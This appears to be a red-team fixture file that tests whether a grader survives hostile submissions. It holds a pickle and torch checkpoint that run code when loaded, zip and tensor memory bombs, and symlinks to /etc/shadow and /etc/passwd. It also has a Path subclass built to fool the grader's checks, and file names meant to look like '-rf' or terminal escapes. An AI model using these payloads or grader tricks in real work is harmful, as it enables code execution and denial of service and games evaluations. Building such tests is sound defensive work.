# %% [markdown]
# F. Files that a submission writes and a grader reads.
# %% attack="code_in_a_checkpoint" task="save_weights" points=1 status="fail error"
"""A pickle that runs code when it is loaded."""
import pickle
from pathlib import Path


class Payload:
    def __reduce__(self):
        return (exec, ("open('/tmp/redteam-was-here', 'w').write('x')",))


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(pickle.dumps(Payload()))
    return path
# %% attack="code_in_a_torch_file" task="save_weights" points=1 status="fail error"
"""The same, in torch's own archive."""
from pathlib import Path

import torch


class Payload:
    def __reduce__(self):
        return (exec, ("open('/tmp/redteam-was-here', 'w').write('x')",))


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save({"weight": Payload()}, path)
    return path
# %% attack="whole_module" task="save_weights" points=1 status="fail error"
"""The model instead of its numbers."""
from pathlib import Path

import torch


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(model, path)
    return path
# %% attack="enormous_tensor" task="save_weights" points=1 status="fail error memory"
"""A small file that claims a tensor of a terabyte."""
from pathlib import Path

import torch


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save({name: torch.zeros(1).expand(1 << 38) for name in model.state_dict()}, path)
    return path
# %% attack="enormous_file" task="save_weights" status="fail error crash memory"
"""A file with a hole of a terabyte in it."""
from pathlib import Path


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as file:
        file.truncate(1 << 40)
    return path
# %% attack="zip_bomb_checkpoint" task="save_weights" points=1 status="fail error memory"
"""Torch's archive format, with a member that unpacks to gigabytes."""
import zipfile
from pathlib import Path


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/version", "3")
        with archive.open("archive/data.pkl", "w", force_zip64=True) as member:
            for _ in range(200):
                member.write(bytes(1 << 20))
    return path
# %% attack="pipe_as_a_file" task="save_weights" points=1 status="fail error timeout"
"""A named pipe, whose reader waits for ever."""
import os
from pathlib import Path


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path
# %% attack="link_as_a_file" task="save_weights" points=1 status="fail error"
"""A link to a file that only the grader may read."""
from pathlib import Path


def save_weights(model, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to("/etc/shadow")
    return path
# %% attack="folder_as_a_file" task="save_weights" points=1 status="fail error"
"""A folder."""
from pathlib import Path


def save_weights(model, path):
    Path(path).mkdir(parents=True, exist_ok=True)
    return Path(path)
# %% attack="path_to_elsewhere" task="save_weights" status="fail error"
"""The path that is returned is that of somebody else's file."""
from pathlib import Path


def save_weights(model, path):
    return Path("/etc/passwd")
# %% attack="path_that_lies" task="save_weights" status="fail error"
"""A path object whose methods are the student's."""
import pathlib


class Lying(type(pathlib.Path())):
    def exists(self, **k):
        return True

    def __fspath__(self):
        return "/etc/hostname"

    def __eq__(self, other):
        return True

    __hash__ = None


def save_weights(model, path):
    return Lying("x")
# %% attack="million_files" task="drop_ones" status="fail error crash timeout"
"""Folders within folders, and files until there is no more room for names."""
import os


def drop_ones(x, keep_batch=False):
    try:
        for number in range(20_000):
            open(f"f{number}", "w").close()
        for _ in range(2_000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    return x[:0]
# %% attack="strange_names" task="drop_ones" status="fail error crash"
"""File names that are no text, control a terminal, or look like options."""
import os


def drop_ones(x, keep_batch=False):
    for name in (b"\xff\xfe", b"a\nb", b"\x1b[2J", b"-rf", b"..."):
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
    return x[:0]
